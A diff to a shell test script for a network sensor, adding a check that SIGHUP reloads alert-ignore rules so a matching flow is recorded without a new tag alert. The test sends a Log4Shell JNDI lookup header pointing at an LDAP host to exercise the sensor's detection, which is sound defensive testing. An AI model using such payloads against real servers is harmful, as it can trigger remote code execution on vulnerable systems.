@@ -123,6 +123,23 @@ i=0
 while [ $i -lt 50 ] && ! grep -q '"kind":"tag"' "$RX/web.jsonl"; do sleep 0.1; i=$((i + 1)); done
 check "--alert-on tags:log4shell: one tag alert" \
 	sh -c "[ \$(grep -c '\"kind\":\"tag\".*\"src_addr\":\"$CADDR\".*\"dst_port\":8080.*\"tag\":\"log4shell\"' '$RX/web.jsonl') -eq 1 ]"
+# SIGHUP: a new ignore rule from the config file applies at once
+echo "alert-ignore $CADDR,port:8080" >>"$WORK/mitsu.conf"
+kill -HUP "$SENSOR_PID"
+i=0
+while [ $i -lt 50 ] && ! grep -q 'alerts: reloaded 2 ignore rules' "$WORK/run.log"; do sleep 0.1; i=$((i + 1)); done
+check "SIGHUP reloads the ignore rules" grep -q 'alerts: reloaded 2 ignore rules' "$WORK/run.log"
+cns curl -s -m 2 -H 'X-Api-Version: ${jndi:ldap://10.0.0.9/b}' "http://$SADDR:8080/after-reload" -o /dev/null
+i=0
+while [ $i -lt 80 ]; do
+	n=$("$MITSU" query --db "$DB" --csv "filter readable like 'after-reload' | stats count(*) as n" 2>/dev/null | tail -1 | tr -d '\r')
+	[ "$n" = 1 ] && break
+	sleep 0.1
+	i=$((i + 1))
+done
+sleep 1
+check "after the reload: the flow is recorded ($n), no new tag alert" \
+	sh -c "[ '$n' = 1 ] && [ \$(grep -c '\"kind\":\"tag\"' '$RX/web.jsonl') -eq 1 ]"
 t0=$(date +%s)
 stop_sensor
 t1=$(date +%s)
